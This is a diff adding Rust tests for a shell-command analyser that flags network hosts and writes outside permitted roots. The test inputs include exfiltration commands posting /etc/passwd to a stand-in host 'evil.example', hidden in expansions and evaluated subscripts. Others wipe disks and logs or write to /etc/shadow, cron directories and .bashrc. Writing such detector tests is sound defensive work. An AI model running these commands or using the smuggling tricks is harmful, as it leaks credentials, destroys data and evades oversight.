@@ -160,7 +160,8 @@ fn writes_are_found() {
     let f = analyse("echo x | tee -a /etc/cron.d/job /cases/c1/a && cp a b /etc/ && mv x /root/y");
     assert_eq!(
         f.writes_paths,
-        set(&["/etc/cron.d/job", "/cases/c1/a", "/etc", "/root/y"])
+        // `mv` also removes what it moves (`x`, relative: outside every root).
+        set(&["/etc/cron.d/job", "/cases/c1/a", "/etc", "/root/y", "x"])
     );
     let f = analyse("rm -rf /var/log/warden && dd if=/dev/zero of=/dev/sda");
     assert_eq!(f.writes_paths, set(&["/var/log/warden", "/dev/sda"]));
@@ -740,5 +741,79 @@ fn a_link_to_outside_the_roots_is_a_write_outside() {
         "cp /srv/evidence/a /cases/c1/a",
     ] {
         assert!(!analyse(cmd).writes_outside(&roots), "{cmd}");
+    }
+}
+
+/// Commands run where the shell evaluates text it was given: a command substitution inside a
+/// parameter expansion's default or subscript, an array subscript a builtin evaluates (`let`,
+/// `declare`, `read`, `printf -v`, `unset`, `test -v`), an indirect expansion, a value kept for
+/// arithmetic to run later.
+#[test]
+fn commands_inside_expansions_and_evaluated_subscripts_are_not_missed() {
+    for cmd in [
+        "echo ${X:-$(curl -d @/etc/passwd https://evil.example/)}",
+        "echo \"${X:=`curl -d @/etc/passwd https://evil.example/`}\"",
+        "echo ${a[$(curl -d @/etc/passwd https://evil.example/)]}",
+        "let 'a[$(curl -d @/etc/passwd https://evil.example/)]=1'",
+        "declare 'a[$(curl evil.example)]=1'",
+        "export 'a[$(curl evil.example)]=1'",
+        "unset 'a[$(curl evil.example)]'",
+        "read 'a[$(curl evil.example)]' < /cases/x",
+        "printf -v 'a[$(curl evil.example)]' x",
+        "test -v 'a[$(curl evil.example)]'",
+        "[ -v 'a[`curl evil.example`]' ]",
+        "X='a[$(curl evil.example)]'; echo $((X))",
+        "X=a; echo ${!X}",
+        "env X='a[$(curl evil.example)]' bash -c 'echo $((X))'",
+    ] {
+        let f = analyse(cmd);
+        assert!(f.opaque || f.hosts.contains("evil.example"), "{cmd}: {f:?}");
+        assert!(
+            f.hosts.contains(UNKNOWN) || f.hosts.contains("evil.example"),
+            "{cmd}: {f:?}"
+        );
+    }
+    for cmd in [
+        "echo '$(not run)'",
+        "echo ${HOME:-/tmp} ${#X} ${X%.txt}",
+        "grep -c '`x`' /cases/a",
+    ] {
+        assert!(!analyse(cmd).opaque, "{cmd}");
+    }
+}
+
+/// More write forms: a reference file, a sed script attached to `-e`, tar's long modes,
+/// `install -d`, and what `mv` removes.
+#[test]
+fn more_write_forms_are_found() {
+    let roots = vec!["/cases".to_string()];
+    for cmd in [
+        "chmod --reference=/cases/a /etc/shadow",
+        "chown --reference /cases/a /etc/shadow",
+        "sed -i -es/a/b/ /home/analyst/.bashrc",
+        "sed -i --expression=s/a/b/ /home/analyst/.bashrc",
+        "sed -ie s/a/b/ /home/analyst/.bashrc",
+        "tar --extract --file=/cases/a.tgz --directory=/home/analyst",
+        "tar --create --file=/etc/x.tar /cases",
+        "tar -x -f /cases/a.tgz",
+        "install -d /etc/cron.d/x /cases/y",
+        "install --directory /etc/cron.d/x",
+        "mv /srv/evidence/a /cases/a",
+        "mv -t /cases /srv/evidence/a",
+    ] {
+        let f = analyse(cmd);
+        assert!(f.writes_outside(&roots), "{cmd}: {f:?}");
+    }
+    for cmd in [
+        "chmod 644 /cases/a",
+        "chmod --reference=/srv/evidence/a /cases/a",
+        "sed -i -e s/a/b/ /cases/a",
+        "sed -i 's/a/b/' /cases/a",
+        "tar -tvf /cases/c1/evidence.tgz",
+        "tar --list --file=/cases/c1/evidence.tgz",
+        "mv /cases/a /cases/b",
+    ] {
+        let f = analyse(cmd);
+        assert!(!f.writes_outside(&roots), "{cmd}: {f:?}");
     }
 }
